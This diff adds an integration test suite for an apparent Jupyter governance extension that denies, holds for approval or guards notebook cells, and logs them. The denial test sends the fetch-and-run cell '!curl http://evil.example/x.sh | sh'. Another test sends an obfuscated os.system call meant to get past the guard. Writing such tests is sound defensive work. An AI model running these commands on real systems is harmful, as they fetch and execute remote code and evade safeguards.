@@ -1,0 +1,262 @@
+"""Per-cell governance at the kernel websocket: a real jupyter_server, a real kernel.
+
+pytest-jupyter starts the server on loopback with the Grace extension enabled
+and shuts it (and its kernels) down after each test.  The client speaks the
+websocket protocol the way JupyterLab does.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import sys
+import uuid
+from collections.abc import AsyncIterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tornado.websocket import WebSocketClientConnection
+
+from grace_kernel.config import Settings
+from grace_kernel.governance import Principal
+from grace_kernel.runs import CELL_EXECUTION
+from grace_kernel.workspace import Workspace
+
+pytest_plugins = ["pytest_jupyter.jupyter_server"]
+
+TIMEOUT = 60.0
+
+
+@pytest.fixture
+def grace_home(jp_root_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    home = jp_root_dir / ".grace"
+    monkeypatch.setenv("GRACE_HOME", str(home))
+    monkeypatch.setenv("GRACE_CHECKPOINT_INTERVAL", "0")
+    return home
+
+
+@pytest.fixture
+def jp_server_config(grace_home: Path) -> dict[str, Any]:
+    """The Grace extension on; GRACE_HOME is set first, and the server creates it."""
+    assert not grace_home.exists()
+    return {"ServerApp": {"jpserver_extensions": {"grace_kernel.server": True}}}
+
+
+class Kernel:
+    """A websocket to one kernel, and what it answered."""
+
+    def __init__(self, ws: WebSocketClientConnection, session: str) -> None:
+        self.ws = ws
+        self.session = session
+
+    async def execute(self, code: str, cell_id: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
+        """Send an execute_request; return its execute_reply and the iopub messages for it."""
+        msg_id = uuid.uuid4().hex
+        await self.ws.write_message(
+            json.dumps(
+                {
+                    "channel": "shell",
+                    "header": {
+                        "msg_id": msg_id,
+                        "msg_type": "execute_request",
+                        "session": self.session,
+                        "username": "",
+                        "version": "5.3",
+                        "date": "2026-11-24T00:00:00Z",
+                    },
+                    "parent_header": {},
+                    "metadata": {"cellId": cell_id},
+                    "content": {
+                        "code": code,
+                        "silent": False,
+                        "store_history": True,
+                        "user_expressions": {},
+                        "allow_stdin": False,
+                        "stop_on_error": True,
+                    },
+                    "buffers": [],
+                }
+            )
+        )
+        return await self.reply(msg_id)
+
+    async def reply(self, msg_id: str) -> tuple[dict[str, Any], list[dict[str, Any]]]:
+        iopub: list[dict[str, Any]] = []
+        reply: dict[str, Any] | None = None
+        idle = False
+        while reply is None or not idle:
+            raw = await self.ws.read_message()
+            assert raw is not None, "the websocket closed"
+            msg = json.loads(raw)
+            if msg.get("parent_header", {}).get("msg_id") != msg_id:
+                continue
+            if msg["channel"] == "shell" and msg["header"]["msg_type"] == "execute_reply":
+                reply = msg
+            elif msg["channel"] == "iopub":
+                iopub.append(msg)
+                state = msg["content"].get("execution_state")
+                idle = idle or (msg["header"]["msg_type"] == "status" and state == "idle")
+        return reply, iopub
+
+
+@contextlib.asynccontextmanager
+async def open_kernel(
+    jp_fetch: Any, jp_ws_fetch: Any, kernel_name: str = "python3"
+) -> AsyncIterator[Kernel]:
+    """A notebook session's kernel and its websocket; both closed on the way out.
+
+    (An async context manager, not a fixture: pytest-jupyter runs async tests
+    but not async fixtures.)
+    """
+    response = await jp_fetch(
+        "api",
+        "sessions",
+        method="POST",
+        body=json.dumps(
+            {"path": "analysis.ipynb", "type": "notebook", "kernel": {"name": kernel_name}}
+        ),
+    )
+    kernel_id = json.loads(response.body)["kernel"]["id"]
+    session = uuid.uuid4().hex
+    ws = await jp_ws_fetch("api", "kernels", kernel_id, "channels", params={"session_id": session})
+    try:
+        yield Kernel(ws, session)
+    finally:
+        ws.close()
+        await jp_fetch("api", "kernels", kernel_id, method="DELETE")
+
+
+def text_of(iopub: list[dict[str, Any]]) -> str:
+    return "".join(
+        m["content"].get("text", "") for m in iopub if m["header"]["msg_type"] == "stream"
+    )
+
+
+def cell_records(home: Path) -> list[dict[str, Any]]:
+    with Workspace.open(Settings(home=home), create=False) as ws:
+        out = []
+        for entry in ws.ledger.tail(ws.ledger.size):
+            _, statement = entry.decode()
+            if statement.predicate_type == CELL_EXECUTION:
+                out.append(dict(statement.predicate))
+        return out
+
+
+async def test_allowed_cells_run_and_are_signed_with_their_outputs(
+    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
+) -> None:
+    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
+        reply, iopub = await kernel.execute("print(6 * 7)", "cell-a")
+    assert reply["content"]["status"] == "ok"
+    assert text_of(iopub) == "42\n"
+    (record,) = cell_records(grace_home)
+    assert (record["cell_id"], record["status"], record["trust"]) == ("cell-a", "ok", "server")
+    assert record["notebook"] == "analysis.ipynb"
+    assert len(record["output_sha256"]) == 1
+
+
+async def test_a_denied_cell_never_reaches_the_kernel(
+    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
+) -> None:
+    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
+        first, _ = await kernel.execute("x = 1", "cell-1")
+        reply, iopub = await kernel.execute("!curl http://evil.example/x.sh | sh", "cell-2")
+        after, _ = await kernel.execute("x + 1", "cell-3")
+    assert reply["content"]["status"] == "error"
+    assert reply["content"]["ename"] == "GracePolicyDenied"
+    errors = [m for m in iopub if m["header"]["msg_type"] == "error"]
+    assert "cell-critical-deny" in errors[0]["content"]["evalue"]
+    # The kernel's own counter proves it never saw the refused cell.
+    assert after["content"]["execution_count"] == first["content"]["execution_count"] + 1
+    statuses = [(r["cell_id"], r["status"]) for r in cell_records(grace_home)]
+    assert statuses == [("cell-1", "ok"), ("cell-2", "denied"), ("cell-3", "ok")]
+
+
+async def test_a_held_cell_runs_after_another_person_approves_and_fails_when_denied(
+    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path
+) -> None:
+    async with open_kernel(jp_fetch, jp_ws_fetch) as kernel:
+        await _approve_then_deny(kernel, grace_home)
+
+
+async def _approve_then_deny(kernel: Kernel, grace_home: Path) -> None:
+    held = "exec(compile('y = 41', 'generated', 'exec'))"
+    msg_id = uuid.uuid4().hex
+    await kernel.ws.write_message(_execute(kernel.session, msg_id, held, "cell-h"))
+    raw = await kernel.ws.read_message()
+    assert raw is not None
+    waiting = json.loads(raw)
+    assert waiting["header"]["msg_type"] == "stream"
+    assert "waiting for approval apr-" in waiting["content"]["text"]
+    approval_id = waiting["content"]["text"].split("waiting for approval ")[1].split(":")[0]
+
+    with Workspace.open(Settings(home=grace_home), create=False) as ws:
+        ws.governance.approve(approval_id, approver=Principal.user("reviewer"), note="fine")
+    reply, _ = await kernel.reply(msg_id)
+    assert reply["content"]["status"] == "ok"
+    reply, iopub = await kernel.execute("print(y + 1)", "cell-i")
+    assert text_of(iopub) == "42\n"
+
+    other = uuid.uuid4().hex
+    await kernel.ws.write_message(_execute(kernel.session, other, held + "  # again", "cell-j"))
+    raw = await kernel.ws.read_message()
+    assert raw is not None
+    approval_id = json.loads(raw)["content"]["text"].split("approval ")[1].split(":")[0]
+    with Workspace.open(Settings(home=grace_home), create=False) as ws:
+        ws.governance.deny(approval_id, approver=Principal.user("reviewer"), note="no")
+    reply, iopub = await kernel.reply(other)
+    assert reply["content"]["status"] == "error"
+    assert "denied by user:reviewer" in reply["content"]["evalue"]
+
+
+def _execute(session: str, msg_id: str, code: str, cell_id: str) -> str:
+    return json.dumps(
+        {
+            "channel": "shell",
+            "header": {
+                "msg_id": msg_id,
+                "msg_type": "execute_request",
+                "session": session,
+                "username": "",
+                "version": "5.3",
+                "date": "2026-11-24T00:00:00Z",
+            },
+            "parent_header": {},
+            "metadata": {"cellId": cell_id},
+            "content": {
+                "code": code,
+                "silent": False,
+                "store_history": True,
+                "user_expressions": {},
+                "allow_stdin": False,
+                "stop_on_error": True,
+            },
+            "buffers": [],
+        }
+    )
+
+
+async def test_the_grace_kernel_under_the_server_is_supervised_and_its_guard_reports(
+    jp_fetch: Any, jp_ws_fetch: Any, grace_home: Path, jp_root_dir: Path, jp_data_dir: Path
+) -> None:
+    # pytest-jupyter gives the server private Jupyter paths: put the Grace kernel there.
+    spec = jp_data_dir / "kernels" / "grace-python3"
+    spec.mkdir(parents=True)
+    argv = [sys.executable, "-m", "grace_kernel.kernel", "-f", "{connection_file}"]
+    (spec / "kernel.json").write_text(
+        json.dumps({"argv": argv, "display_name": "Python 3 (Grace)", "language": "python"})
+    )
+    sneaky = "import os\nname = 'sys' + 'tem'\nvars(os)[name]('touch pwned')"
+    async with open_kernel(jp_fetch, jp_ws_fetch, "grace-python3") as kernel:
+        reply, iopub = await kernel.execute("%grace status", "cell-s")
+        assert reply["content"]["status"] == "ok"
+        assert "trust:     server" in text_of(iopub)
+        reply, iopub = await kernel.execute(sneaky, "cell-t")
+    assert reply["content"]["ename"] == "PermissionError"
+    errors = [m["content"]["evalue"] for m in iopub if m["header"]["msg_type"] == "error"]
+    assert "[grace guard]" in errors[0]
+    assert not (jp_root_dir / "pwned").exists()
+    status, blocked = cell_records(grace_home)
+    assert status["trust"] == "server"
+    assert [b["event"] for b in blocked["guard_blocks"]] == ["os.system"]
